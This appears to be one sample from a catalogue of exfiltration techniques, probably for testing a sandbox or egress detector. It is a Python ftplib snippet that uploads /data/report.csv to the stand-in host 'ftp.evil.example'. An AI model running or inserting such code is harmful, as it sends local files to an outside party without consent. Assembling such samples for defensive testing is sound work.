# attack-class: 11
# title: ftplib upload
# why: FTP is another outbound protocol in the standard library

from ftplib import FTP

with FTP("ftp.evil.example") as ftp:
    ftp.login()
    with open("/data/report.csv", "rb") as fh:
        ftp.storbinary("STOR report.csv", fh)
